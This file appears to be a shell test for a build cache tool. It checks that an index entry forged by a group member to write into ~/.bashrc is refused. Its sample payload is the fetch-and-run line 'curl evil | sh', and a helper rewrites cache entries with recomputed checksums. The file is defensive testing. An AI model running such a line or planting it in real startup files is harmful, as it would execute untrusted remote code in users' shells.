# A cache that others can write (a group cache: umask = 002) is another's
# word like a remote's: a member who edits index.db so that an entry writes
# outside the step's directory (~/.bashrc) makes that entry refused, a miss
# counted as refused, and the step runs. A private cache keeps restoring its
# own entries wherever they were recorded.
source "$(dirname "$0")/lib.sh"

W=$(workdir)
HOME_DIR=$(workdir home)
echo "alias ls='ls --color'" > "$HOME_DIR/.bashrc"
BASHRC_BEFORE=$(tree_state "$HOME_DIR")
cd "$W"

# retarget OLD NEW: rewrites every stored result (index.db) so that the
# output OLD becomes NEW (same length), as a member with write access to the
# index can, checksum included; and drops the memos, which a member can
# rewrite as well.
retarget() {
    python3 - "$CACHET_DIR/index.db" "$1" "$2" <<'PY'
import hashlib, sqlite3, sys
db, old, new = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
assert len(old) == len(new)
c = sqlite3.connect(db)
n = 0
for strong, body in c.execute("SELECT strong, body FROM results").fetchall():
    body = bytes(body)
    if old not in body:
        continue
    head = body[:-32].replace(old, new)
    c.execute("UPDATE results SET body = ? WHERE strong = ?", (head + hashlib.sha256(head).digest(), strong))
    n += 1
c.commit()
assert n, "no result names " + sys.argv[2]
PY
    rm -rf "$CACHET_DIR/memo"
}

section "a group-writable cache: an entry edited to write outside is refused"
export CACHET_DIR=$T/group-cache
mkdir -p "$CACHET_DIR"
printf 'umask = 002\n' > "$CACHET_DIR/cachet.conf"
# Name of the same length as the step's output, beside the real .bashrc.
target="$W/.bashrc"
evil="$HOME_DIR/.bashrc"
[ "${#target}" -eq "${#evil}" ] || fail "test setup: the two paths differ in length"
run_expect miss "new step" -- sh -c "echo 'curl evil | sh' > .bashrc"
[ -n "$(find "$CACHET_DIR/index.db" -perm -g+w)" ] || fail "umask = 002 did not make index.db group-writable"
retarget "$target" "$evil"
rm .bashrc
before=$(counters restore_refused)
run_expect miss "" -- sh -c "echo 'curl evil | sh' > .bashrc"
[ "$(counters restore_refused)" -eq $((before + 1)) ] || fail "the edited entry was not counted as refused"
assert_same_tree "the member's home" "$BASHRC_BEFORE" "$(tree_state "$HOME_DIR")"
assert_content .bashrc "curl evil | sh"

section "the ordinary entry in a group cache still hits"
rm .bashrc
run_expect hit "" -- sh -c "echo 'curl evil | sh' > .bashrc"
assert_content .bashrc "curl evil | sh"

section "a private cache restores its own entries where they were recorded"
export CACHET_DIR=$T/private-cache
run_expect miss "new step" -- sh -c "echo out-of-tree > '$HOME_DIR/made-by-step'"
rm "$HOME_DIR/made-by-step"
run_expect hit "" -- sh -c "echo out-of-tree > '$HOME_DIR/made-by-step'"
assert_content "$HOME_DIR/made-by-step" out-of-tree
